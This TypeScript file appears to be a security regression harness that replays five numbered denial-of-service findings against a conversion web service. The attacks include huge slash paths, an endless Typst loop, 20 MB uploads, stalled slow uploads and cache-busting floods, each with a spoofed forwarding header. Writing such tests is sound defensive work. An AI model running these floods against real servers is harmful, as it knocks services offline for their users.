/** Requests that once stopped a server, from one address. Runs as a separate process: `attacks.ts BASE NAME…` until it is ended. */
import { setTimeout as wait } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { exchange, requestText, stall } from '@bakkum/tests/attack/raw-http';
import { convert, visitorOf } from '@bakkum/tests/attack/visitor';

const ATTACKER = '203.0.113.66';
const MEGABYTE = 1024 * 1024;

type Attack = { readonly name: string; readonly run: (base: string, signal: AbortSignal) => Promise<void> };

/** Repeats work on several connections until the signal. */
async function repeated(lanes: number, signal: AbortSignal, act: (round: number) => Promise<unknown>): Promise<void> {
  const lane = async (start: number): Promise<void> => {
    // Requests that are refused or cut off are part of an attack.
    for (let round = start; !signal.aborted; round += lanes) await act(round).catch(() => undefined);
  };
  await Promise.all(Array.from({ length: lanes }, (_, index) => lane(index)));
}

const from = { 'X-Forwarded-For': ATTACKER };
const read = async (answer: Promise<Response>): Promise<unknown> => (await answer).arrayBuffer();

/** The numbers are those of the findings. */
export const ATTACKS: readonly Attack[] = [
  {
    name: '1: paths of 15,000 slashes',
    run: (base, signal) => repeated(8, signal, () => exchange(base, requestText(base, `GET ${'/'.repeat(15_000)}`))),
  },
  {
    name: '2: endless Typst documents without a cookie',
    run: (base, signal) =>
      repeated(2, signal, async () => {
        const sent = convert(visitorOf(base, ATTACKER), '#while true { }\n', 'loop.typ', 'pdf');
        await Promise.all([sent, wait(1000)]);
      }),
  },
  {
    name: '3: files of 20 MB without a cookie',
    run: (base, signal) => {
      const form = new FormData();
      form.append('file', new Blob([new Uint8Array(20 * MEGABYTE)]), 'zeros.bin');
      return repeated(4, signal, () =>
        read(fetch(`${base}/api/v1/uploads`, { method: 'POST', body: form, headers: { ...from, Origin: base }, signal })),
      );
    },
  },
  {
    name: '7: 60 uploads that stall after 8 MB',
    async run(base, signal) {
      const head = `POST /api/v1/upload HTTP/1.1\r\nHost: ${new URL(base).host}\r\nOrigin: ${base}\r\nX-Forwarded-For: ${ATTACKER}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: ${20 * MEGABYTE}\r\n\r\n--x\r\nContent-Disposition: form-data; name="file"; filename="a.bin"\r\n\r\n`;
      const bytes = Buffer.concat([Buffer.from(head), Buffer.alloc(8 * MEGABYTE)]);
      const clients = stall(base, 60, () => bytes);
      await new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
      (await clients).close();
    },
  },
  {
    name: '8: pages with changing query strings, pages nobody has read, and the API document',
    run: (base, signal) =>
      repeated(20, signal, (round) => {
        const paths = [`/formats?utm=${round}`, `/convert/png-to-jpeg?x=${round}`, `/search?q=${round}`, '/api/openapi.json'];
        return read(fetch(base + (paths[round % paths.length] ?? '/'), { headers: from, signal }));
      }),
  },
];

/** Path of this program. */
export const ATTACKER_PROGRAM = fileURLToPath(import.meta.url);

const [program, base, ...names] = process.argv.slice(1);
if (program === ATTACKER_PROGRAM && base !== undefined) {
  const endless = new AbortController().signal;
  await Promise.all(ATTACKS.filter(({ name }) => names.includes(name)).map((attack) => attack.run(base, endless)));
}
